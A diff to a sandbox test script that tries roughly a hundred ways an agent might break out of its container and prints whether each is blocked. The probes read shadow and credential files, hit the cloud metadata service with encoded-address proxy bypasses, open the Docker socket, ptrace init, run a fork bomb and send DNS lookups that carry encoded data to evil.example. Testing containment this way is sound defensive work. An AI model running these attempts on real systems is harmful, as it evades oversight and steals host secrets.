@@ -1,11 +1,16 @@
-"""What an agent may try to get out of its container; prints one line per attempt."""
+"""What an agent may try to get out of where it is locked in; prints one line per attempt."""
 
 import ctypes
 import errno
+import fcntl
+import json
 import os
 import resource
+import signal
 import socket
+import subprocess
 import sys
+import time
 from pathlib import Path
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -59,6 +64,149 @@ def fills(path):
                 file.write(bytes(1 << 20))
 
     return attempt
+
+
+def asks(request, allowed=None):
+    """Send a request to the proxy; complain of any answer but the one that is meant."""
+
+    def attempt():
+        with socket.create_connection(("127.0.0.1", 3128), 5) as client:
+            client.sendall(request.encode())
+            status = client.recv(200).decode(errors="replace").split(" ")
+        code = status[1] if len(status) > 1 else "closed"
+        if code != allowed:
+            raise ValueError(code)
+
+    return attempt
+
+
+def tunnels(host):
+    """Open a tunnel; complain of any answer but that there is one."""
+    request = f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"
+    return asks(request, allowed="200")
+
+
+def fetches(address):
+    """Ask a web server for a page; complain of any answer but a page."""
+
+    def attempt():
+        with socket.create_connection((address, 80), 5) as client:
+            client.sendall(f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
+            status = client.recv(200).decode(errors="replace").split(" ")
+        if status[1:2] != ["200"]:
+            raise ValueError(status[1] if len(status) > 1 else "closed")
+
+    return attempt
+
+
+def resolves(name):
+    """Resolve a name."""
+    return lambda: socket.getaddrinfo(name, 443)
+
+
+def sends(address):
+    """Send a datagram and wait for an answer."""
+
+    def attempt():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+            client.settimeout(1)
+            client.connect(address)
+            client.send(
+                b"\x00\x07\x01\x00\x00\x01" + bytes(6) + b"\x04evil\x03com\x00\x00\x01\x00\x01"
+            )
+            answer = client.recv(512)
+        raise ValueError(f"rcode {answer[3] & 15}, {answer[7]} answers")
+
+    return attempt
+
+
+def bursts():
+    """Make children until there may be no more."""
+    children = []
+    try:
+        for _ in range(500):
+            child = os.fork()
+            if child == 0:
+                time.sleep(1000)
+                os._exit(0)
+            children.append(child)
+    finally:
+        for child in children:
+            os.kill(child, signal.SIGKILL)
+            os.waitpid(child, 0)
+
+
+def dies(program):
+    """Run a piece of Python in a child; complain of how it ends."""
+
+    def attempt():
+        command = [sys.executable, "-c", program]
+        done = subprocess.run(command, capture_output=True, timeout=30, check=False)
+        raise ValueError(f"ended with {done.returncode}")
+
+    return attempt
+
+
+def gains(*command):
+    """Run a program that is set-uid root; complain unless it stays who we are."""
+
+    def attempt():
+        done = subprocess.run(command, capture_output=True, timeout=10, text=True, check=False)
+        if done.returncode == 0 and "uid=0" in done.stdout:
+            return
+        raise ValueError("no gain")
+
+    return attempt
+
+
+def reads_memory():
+    """Read memory of the first process."""
+    buffer = ctypes.create_string_buffer(64)
+    place = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
+    call(310, 1, place, 1, place, 1, 0)
+
+
+def takes_a_descriptor():
+    """Take a descriptor of the first process."""
+    libc.syscall.restype = ctypes.c_long
+    held = libc.syscall(ctypes.c_long(434), ctypes.c_long(1), ctypes.c_long(0))
+    if held == -1:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    try:
+        call(438, held, 0, 0)
+    finally:
+        os.close(held)
+
+
+def clones_users():
+    """Make a child in a user namespace of its own."""
+    libc.syscall.restype = ctypes.c_long
+    child = libc.syscall(*map(ctypes.c_long, (56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)))
+    if child == 0:
+        os._exit(0)
+    if child == -1:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    os.waitpid(child, 0)
+
+
+def types_for_others():
+    """Put a letter into the input of a terminal."""
+    leader, follower = os.openpty()
+    try:
+        fcntl.ioctl(follower, 0x5412, b"x")
+    finally:
+        os.close(leader)
+        os.close(follower)
+
+
+def signals_everybody():
+    """Signal every process that can be signalled; complain if one is not ours."""
+    seen = {int(one.name) for one in Path("/proc").iterdir() if one.name.isdigit()}
+    for pid in seen - {os.getpid(), 1}:
+        os.kill(pid, 0)
+        raise ValueError(f"it may signal {pid}")
 
 
 def opens_many():
@@ -115,7 +263,7 @@ def has_no_foreign_variables():
 def is_nobody_special():
     """Complain of any privilege."""
     with Path("/proc/self/status").open() as file:
-        status = dict(line.rstrip().split(":\t", 1) for line in file if ":\t" in line)
+        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
     found = [status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]
     if set(found) != {"0" * 16} or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2":
         raise ValueError(f"{found}, {status['NoNewPrivs']}, {status['Seccomp']}")
@@ -125,34 +273,66 @@ def is_nobody_special():
         raise ValueError("it may dump core")
 
 
-FOREIGN, PORT, HOME = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
-ABSTRACT = "\0" + sys.argv[4]
+PLACE = json.loads(sys.argv[1])
+FOREIGN, PORT, HOME = PLACE["foreign"], PLACE["port"], PLACE["home"]
+ABSTRACT = "\0" + PLACE["abstract"]
+# A host that the fleet file may allow, whose name leads to this machine.
+ALLOWED = f"localhost:{PORT}"
 ATTEMPTS = [
     (1, "shadow", reads("/etc/shadow")),
     (1, "home of root", reads("/root/.bashrc")),
+    (1, "state of another agent", reads(f"{HOME}/.openclaw/store.db")),
     (2, "fleet file", reads(f"{HOME}/openclaw.yaml")),
     (2, "journal", reads(f"{HOME}/.openclaw/journal.db")),
     (3, "environment of a host's process", reads(f"/proc/{FOREIGN}/environ")),
+    (3, "environment of the first process", reads("/proc/1/environ")),
     (4, "foreign processes", is_alone),
     (5, "inherited descriptors", has_only_standard_streams),
     (6, "inherited environment", has_no_foreign_variables),
     (7, "identity and capabilities", is_nobody_special),
-    (8, "metadata address", connects(socket.AF_INET, ("169.254.169.254", 80))),
+    (8, "metadata address", fetches("169.254.169.254")),
+    (8, "metadata by tunnel", tunnels("169.254.169.254:80")),
+    (8, "metadata in decimal", tunnels("2852039166:80")),
+    (8, "metadata in hexadecimal", tunnels("0xa9fea9fe:80")),
+    (8, "metadata mapped to IPv6", tunnels("[::ffff:169.254.169.254]:80")),
+    (8, "metadata by name", tunnels("metadata.google.internal:80")),
+    (10, "private address by an allowed name", tunnels(ALLOWED)),
     (11, "loopback of the host", connects(socket.AF_INET, ("127.0.0.1", PORT))),
-    (12, "address on the internet", connects(socket.AF_INET, ("192.0.2.1", 443))),
+    (11, "loopback of the host by tunnel", tunnels(f"127.0.0.1:{PORT}")),
+    (12, "address on the internet", connects(socket.AF_INET, ("192.0.2.1", 444))),
     (13, "resolver on the internet", connects(socket.AF_INET, ("192.0.2.1", 53))),
+    (13, "name that is not allowed", sends(("192.0.2.1", 53))),
+    (13, "lookup", resolves("c2VjcmV0.evil.example")),
+    (15, "user in a tunnel", tunnels(f"{ALLOWED}@{ALLOWED}")),
+    (15, "port 0", tunnels("localhost:0")),
+    (15, "two hosts", asks("GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\nHost: b\r\n\r\n")),
+    (15, "another host", asks("GET http://a.example/ HTTP/1.1\r\nHost: b.example\r\n\r\n")),
+    (15, "folded line", asks("CONNECT a:443\rb HTTP/1.1\r\nHost: a\r\n\r\n")),
     (18, "abstract socket of the host", connects(socket.AF_UNIX, ABSTRACT)),
+    (19, "socket in a directory of the host", connects(socket.AF_UNIX, f"{HOME}/planted.sock")),
     (20, "socket of the engine", connects(socket.AF_UNIX, "/var/run/docker.sock")),
     (20, "socket of containerd", connects(socket.AF_UNIX, "/run/containerd/containerd.sock")),
+    (20, "D-Bus", connects(socket.AF_UNIX, "/run/dbus/system_bus_socket")),
     (21, "control socket", connects(socket.AF_UNIX, f"{HOME}/.openclaw/control.sock")),
     (22, "AF_VSOCK", opens(40)),
     (22, "AF_PACKET", opens(17, socket.SOCK_RAW)),
+    (22, "AF_ALG", opens(38, socket.SOCK_SEQPACKET)),
     (22, "raw socket", opens(socket.AF_INET, socket.SOCK_RAW, 1)),
+    (22, "MPTCP", opens(socket.AF_INET, socket.SOCK_STREAM, 262)),
+    (22, "netlink for audit", opens(16, socket.SOCK_RAW, 9)),
+    (22, "netlink for routes", opens(16, socket.SOCK_RAW, 0)),
+    (23, "ptrace of the first process", lambda: call(101, 16, 1, 0, 0)),
+    (23, "memory of the first process", reads_memory),
+    (23, "descriptor of the first process", takes_a_descriptor),
     (24, "signal to a host's process", lambda: os.kill(FOREIGN, 0)),
+    (24, "signal to everybody", signals_everybody),
+    (25, "fork bomb", bursts),
     (27, "nice of -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
     (27, "real-time class", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))),
-    (28, "files of the image", writes("/bin/new", os.O_CREAT)),
+    (28, "system's files", writes("/usr/bin/new", os.O_CREAT)),
+    (28, "root directory", writes("/new", os.O_CREAT)),
     (28, "filling /tmp", fills("/tmp/full")),
+    (28, "filling /dev/shm", fills("/dev/shm/full")),
     (30, "many descriptors", opens_many),
     (31, "io_uring_setup", lambda: call(425, 8, ctypes.create_string_buffer(256))),
     (31, "bpf", lambda: call(321, 0, ctypes.create_string_buffer(256), 72)),
@@ -161,21 +341,28 @@ ATTEMPTS = [
     (31, "keyctl", lambda: call(250, 0, -3, 1)),
     (31, "perf_event_open", lambda: call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)),
     (32, "unshare of users", lambda: call(272, 0x10000000)),
+    (32, "clone of users", clones_users),
     (32, "mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, None)),
     (32, "fsopen", lambda: call(430, b"tmpfs", 0)),
     (32, "open_tree", lambda: call(428, -100, b"/", 1)),
     (32, "pivot_root", lambda: call(155, b"/tmp", b"/tmp")),
     (32, "chroot", lambda: os.chroot("/tmp")),
-    (32, "setns", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)),
+    (32, "setns", lambda: call(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
+    (33, "set-uid root", gains("/usr/bin/su", "-c", "id")),
+    (33, "user 0", lambda: os.setuid(0)),
     (34, "terminal", reads("/dev/tty")),
+    (34, "typing for others", types_for_others),
     (35, "core_pattern", writes("/proc/sys/kernel/core_pattern")),
     (35, "sysrq", writes("/proc/sysrq-trigger")),
     (36, "cgroup", lambda: Path("/sys/fs/cgroup/memory/mine").mkdir()),
     (36, "own score", lowers_its_score),
     (36, "hard limits", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (9999, 9999))),
+    (36, "cgroup namespace", lambda: call(272, 0x02000000)),
     (37, "init's executable", writes("/proc/1/exe")),
     (40, "mknod", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))),
+    (40, "name_to_handle_at", lambda: call(303, -100, b"/", bytes(160), bytes(8), 0)),
     (40, "open_by_handle_at", lambda: call(304, -100, ctypes.create_string_buffer(64), 0)),
+    (42, "call of x32", dies("import ctypes; ctypes.CDLL(None).syscall(0x40000027)")),
     (44, "clock", lambda: call(227, 0, ctypes.create_string_buffer(16))),
 ]
 
@@ -185,7 +372,7 @@ for row, what, attempt in ATTEMPTS:
         outcome = "allowed"
     except OSError as error:
         outcome = errno.errorcode.get(error.errno or 0, repr(error))
-    except ValueError as error:
+    except (ValueError, subprocess.SubprocessError) as error:
         outcome = str(error)
     print(f"row {row} {what}: {outcome}", flush=True)
 print("done", flush=True)
